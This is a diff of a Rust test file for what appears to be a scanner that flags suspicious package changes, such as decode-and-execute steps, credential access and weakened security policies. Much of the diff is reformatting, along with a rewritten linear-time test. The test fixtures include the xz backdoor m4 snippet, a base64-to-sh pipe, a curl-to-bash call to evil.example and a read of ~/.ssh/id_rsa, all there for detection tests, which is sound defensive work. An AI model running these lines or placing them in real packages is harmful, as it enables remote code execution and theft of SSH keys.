@@ -342,7 +342,10 @@ fn python_decode_without_exec_is_quiet() {
 fn xz_build_to_host_m4() {
     let m4 = "  if test \"x$gl_am_configmake\" != \"x\"; then\n    gl_[$1]_config='sed \\\"r\\n\\\" $gl_am_configmake | eval $gl_path_map | $gl_[$1]_prefix -d 2>/dev/null'\n  else\n    gl_[$1]_config=''\n  fi\n  gl_path_map='tr \"\\t \\-_\" \" \\t_\\-\"'\n  AC_CONFIG_COMMANDS([build-to-host], [eval $gl_config_gt | $SHELL 2>/dev/null], [gl_config_gt=\"eval \\$gl_[$1]_config\"])\n";
     let h = added("m4/build-to-host.m4", m4);
-    let de: Vec<&ContentHit> = h.iter().filter(|x| x.kind == HitKind::DECODE_EXEC).collect();
+    let de: Vec<&ContentHit> = h
+        .iter()
+        .filter(|x| x.kind == HitKind::DECODE_EXEC)
+        .collect();
     assert_eq!(de.len(), 2, "{h:#?}");
     assert_eq!(de.first().map(|x| x.line), Some(2));
     assert!(
@@ -359,7 +362,10 @@ fn xz_build_to_host_m4() {
 #[test]
 fn shell_decode_and_download_exec() {
     let h = added("build-aux/run.sh", "echo aWQK | base64 -d | sh\n");
-    assert_eq!(hit(&h, HitKind::DECODE_EXEC).detail, "base64 -d piped to sh");
+    assert_eq!(
+        hit(&h, HitKind::DECODE_EXEC).detail,
+        "base64 -d piped to sh"
+    );
     let h = added(
         "setup.py",
         "os.system('curl -sSL https://evil.example/x | bash')\n",
@@ -851,7 +857,9 @@ fn gitattributes_rules() {
         "tests/ export-ignore\n*.m4 binary\nsrc/*.c linguist-generated\n",
     );
     assert_eq!(
-        h.iter().filter(|x| x.kind == HitKind::EXPORT_IGNORE).count(),
+        h.iter()
+            .filter(|x| x.kind == HitKind::EXPORT_IGNORE)
+            .count(),
         3
     );
     let numpy = "* text=auto eol=lf\n*.py text diff=python\n*.c text diff=c\n*.png binary\n*.c.src text linguist-language=C\n";
@@ -877,7 +885,10 @@ fn security_policy_trimmed() {
     let new = "# Security Policy\n\nOpen an issue.\n";
     let h = change("SECURITY.md", POLICY, new);
     assert!(has(&h, HitKind::SECURITY_POLICY_WEAKENED));
-    assert!(h.iter().all(|x| x.kind != HitKind::SECURITY_CONTACT_CHANGED));
+    assert!(
+        h.iter()
+            .all(|x| x.kind != HitKind::SECURITY_CONTACT_CHANGED)
+    );
     let typo = POLICY.replace("within 48 hours", "within two days");
     assert!(change("SECURITY.md", POLICY, &typo).is_empty());
 }
@@ -931,7 +942,10 @@ fn endpoints_and_credentials() {
         "setup.py",
         "key = open(os.path.expanduser('~/.ssh/id_rsa')).read()\n",
     );
-    assert_eq!(hit(&h, HitKind::CREDENTIAL_ACCESS).detail, "SSH private key");
+    assert_eq!(
+        hit(&h, HitKind::CREDENTIAL_ACCESS).detail,
+        "SSH private key"
+    );
     let doc = "def safe_eval(s):\n    \"\"\"\n    >>> safe_eval('open(\"/home/user/.ssh/id_dsa\").read()')\n    \"\"\"\n";
     assert!(added("numpy/lib/utils.py", doc).is_empty());
 }
@@ -1022,25 +1036,89 @@ fn hostile_inputs_are_bounded() {
     assert!(e.contains("<U+001B>") && e.contains('\u{FFFD}'), "{e}");
 }
 
+/// Steps the scan of `old` → `new` at `path` counts (see `meter`), and the input's size.
+fn work(path: &str, old: &str, new: &str) -> (u64, u64) {
+    let mut hits = Vec::new();
+    let steps = super::meter::count(|| hits = change(path, old, new));
+    assert!(hits.len() <= MAX_HITS_PER_FILE);
+    (steps, (old.len() + new.len()) as u64)
+}
+
+/// Hostile shapes at size `n` and `2n`: the scan's work (counted, not timed) at most doubles
+/// plus a little, and stays within a constant number of steps per input byte.
 #[test]
 fn hostile_files_scan_in_linear_time() {
-    // Many flags per line on many lines, changed on both sides: netting stays linear.
-    let line = "-fstack-protector -D_FORTIFY_SOURCE=2 -z relro -z now ".repeat(8);
-    let old: String = (0..20_000).map(|i| format!("{line}{i}\n")).collect();
-    let new: String = (0..20_000).map(|i| format!("{line}x{i}\n")).collect();
-    let start = std::time::Instant::now();
-    let h = change("meson.build", &old, &new);
-    assert!(h.len() <= MAX_HITS_PER_FILE);
-    // A huge pyproject section header repeated for every added line.
-    let toml = format!("[{}]\n{}", "a".repeat(60_000), "k = 1\n".repeat(50_000));
-    let _ = added("pyproject.toml", &toml);
-    // Every line a probe start.
-    let probes = "check_c_source_compiles(\"(\" X)\n".repeat(50_000);
-    let _ = added("CMakeLists.txt", &probes);
-    // Many attribute and exec occurrences on one line.
-    let _ = added("src/x.c", &"__attribute__((".repeat(5_000));
-    let _ = added("pkg/m.py", &"exec('')".repeat(8_000));
-    assert!(start.elapsed().as_secs() < 20, "{:?}", start.elapsed());
+    type Shape = fn(usize) -> (&'static str, String, String);
+    let shapes: [(&str, Shape, usize); 6] = [
+        // Many flags per line on many lines, changed on both sides: netting stays linear.
+        (
+            "hardening flags",
+            |n| {
+                let line = "-fstack-protector -D_FORTIFY_SOURCE=2 -z relro -z now ".repeat(8);
+                let old: String = (0..n).map(|i| format!("{line}{i}\n")).collect();
+                let new: String = (0..n).map(|i| format!("{line}x{i}\n")).collect();
+                ("meson.build", old, new)
+            },
+            2_000,
+        ),
+        // A huge pyproject section header repeated for every added line.
+        (
+            "pyproject sections",
+            |n| {
+                let toml = format!("[{}]\n{}", "a".repeat(60_000), "k = 1\n".repeat(n));
+                ("pyproject.toml", String::new(), toml)
+            },
+            10_000,
+        ),
+        // Every line a probe start.
+        (
+            "probe starts",
+            |n| {
+                let probes = "check_c_source_compiles(\"(\" X)\n".repeat(n);
+                ("CMakeLists.txt", String::new(), probes)
+            },
+            2_000,
+        ),
+        // Many attribute and exec occurrences on one line (under the line limit).
+        (
+            "attributes on one line",
+            |n| ("src/x.c", String::new(), "__attribute__((".repeat(n)),
+            2_000,
+        ),
+        (
+            "exec on one line",
+            |n| ("pkg/m.py", String::new(), "exec('')".repeat(n)),
+            3_000,
+        ),
+        // Long lines of base64-looking text (entropy histograms, block tracking).
+        (
+            "base64 block",
+            |n| {
+                let line = random_b64(200, 7);
+                (
+                    "pkg/blob.py",
+                    String::new(),
+                    format!("X = (\n{}\n)\n", format!("'{line}'\n").repeat(n)),
+                )
+            },
+            500,
+        ),
+    ];
+    for (name, shape, n) in shapes {
+        let (path, old, new) = shape(n);
+        let (small, bytes) = work(path, &old, &new);
+        let (path2, old2, new2) = shape(2 * n);
+        let (big, _) = work(path2, &old2, &new2);
+        assert!(small > 0, "{name}: nothing counted");
+        assert!(
+            big * 4 <= small * 9,
+            "{name}: {small} steps at n={n}, {big} at 2n: more than linear"
+        );
+        assert!(
+            small <= 400 * bytes,
+            "{name}: {small} steps for {bytes} bytes of input"
+        );
+    }
 }
 
 #[test]
